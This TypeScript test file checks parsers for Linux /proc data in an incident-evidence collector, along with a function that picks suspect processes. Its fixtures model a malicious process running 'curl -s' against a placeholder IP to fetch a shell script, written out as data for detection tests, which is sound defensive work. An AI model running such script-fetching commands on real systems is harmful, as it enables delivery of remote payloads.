// The parsers of what the trusted collector reads from /proc (busybox ls/head output and the
// kernel's own formats), on literal samples: the expectations are tables, not the code.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  decodeAddress,
  parseCmdline,
  parseExeLinks,
  parseNetTable,
  parsePidList,
  parseStartTime,
  parseStatus,
  socketInode,
  splitHeadOutput,
} from '../../shared/evidence/proc-parse.js';
import { findSuspects, type ProcessEntry } from '../../shared/evidence/volatile.js';
import type { Incident } from '../../shared/finding/types.js';

describe('proc parsers', () => {
  test('exe links keep " (deleted)" and skip error lines', () => {
    const text = [
      'lrwxrwxrwx    1 0        0                0 Dec  1 21:00 /proc/1/exe -> /usr/local/bin/app',
      'lrwxrwxrwx    1 1000     0                0 Dec  1 21:00 /proc/7/exe -> /usr/bin/curl (deleted)',
      'ls: /proc/9/exe: cannot read link: Permission denied',
    ].join('\n');
    assert.deepEqual([...parseExeLinks(text)], [[1, '/usr/local/bin/app'], [7, '/usr/bin/curl (deleted)']]);
  });

  test('pid list, status, stat start time, cmdline', () => {
    assert.deepEqual(parsePidList('1\n7\nnet\nself\n12\n'), [1, 7, 12]);
    assert.deepEqual(parseStatus('Name:\tcurl\nState:\tS (sleeping)\nPPid:\t1\nUid:\t1000\t1000\t1000\t1000\n'), { name: 'curl', state: 'S (sleeping)', ppid: 1, uid: 1000 });
    // A comm with spaces and parentheses: fields are counted after the last ')'.
    const stat = `7 (evil) name)) S 1 ${Array(17).fill('0').join(' ')} 424242 0 0`; // field 22
    assert.equal(parseStartTime(stat), 424242);
    assert.deepEqual(parseCmdline(Buffer.from('/usr/bin/curl\0-s\0http://x\0')), ['/usr/bin/curl', '-s', 'http://x']);
  });

  test('head output with headers splits per file, binary content kept', () => {
    const out = Buffer.from('==> /proc/1/cmdline <==\na\0b\0\n==> /proc/7/cmdline <==\nc\0');
    const m = splitHeadOutput(out);
    assert.deepEqual([...m.keys()], ['/proc/1/cmdline', '/proc/7/cmdline']);
    assert.deepEqual(parseCmdline(m.get('/proc/1/cmdline') ?? Buffer.alloc(0)), ['a', 'b']);
    assert.deepEqual(parseCmdline(m.get('/proc/7/cmdline') ?? Buffer.alloc(0)), ['c']);
    assert.deepEqual([...splitHeadOutput(Buffer.from('x'), '/proc/1/maps')], [['/proc/1/maps', Buffer.from('x')]]);
  });

  test('kernel socket addresses: IPv4, IPv6, v4-mapped', () => {
    assert.equal(decodeAddress('3200710C:0050', false), '12.113.0.50:80');
    assert.equal(decodeAddress('0C00080A:A8F2', false), '10.8.0.12:43250');
    assert.equal(decodeAddress('00000000000000000000000000000000:1F90', true), '[::]:8080');
    assert.equal(decodeAddress('B80D0120000000000000000001000000:01BB', true), '[2001:db8::1]:443');
    assert.equal(decodeAddress('0000000000000000FFFF00000C00080A:01BB', true), '10.8.0.12:443');
  });

  test('a tcp table: states named, inodes read, header skipped', () => {
    const text = [
      '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode',
      '   0: 0C00080A:A8F2 3200710C:0050 01 00000000:00000000 00:00000000 00000000  1000        0 4711 1 0000000000000000 100 0 0 10 0',
      '   1: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 900 1 0000000000000000 100 0 0 10 0',
    ].join('\n');
    assert.deepEqual(parseNetTable(text, 'tcp'), [
      { proto: 'tcp', local: '10.8.0.12:43250', remote: '12.113.0.50:80', state: 'ESTABLISHED', uid: 1000, inode: 4711 },
      { proto: 'tcp', local: '0.0.0.0:8080', remote: '0.0.0.0:0', state: 'LISTEN', uid: 0, inode: 900 },
    ]);
    assert.equal(socketInode('socket:[4711]'), 4711);
    assert.equal(socketInode('/dev/null'), undefined);
  });
});

describe('findSuspects', () => {
  const inc = { args: ['/usr/bin/curl', '-s', 'http://203.0.113.50/x.sh'] } as unknown as Incident;
  const procs: ProcessEntry[] = [
    { pid: 1, exe: '/usr/local/bin/app', cmdline: ['/usr/local/bin/app'] },
    { pid: 9, exe: '/usr/bin/curl', cmdline: ['/usr/bin/curl', '-V'] },
    { pid: 7, exe: '/usr/bin/curl (deleted)', cmdline: ['/usr/bin/curl', '-s', 'http://203.0.113.50/x.sh'] },
    { pid: 12, cmdline: ['/usr/bin/curl', '-s', 'http://203.0.113.50/x.sh'] }, // exe unreadable
  ];
  test('exe link (deleted included) first, equal arguments break ties, argv[0] alone last', () => {
    assert.deepEqual(findSuspects(procs, inc, '/usr/bin/curl'), [7, 9, 12]);
  });
  test('a path no process runs: none', () => {
    assert.deepEqual(findSuspects(procs, inc, '/usr/bin/wget'), []);
  });
});
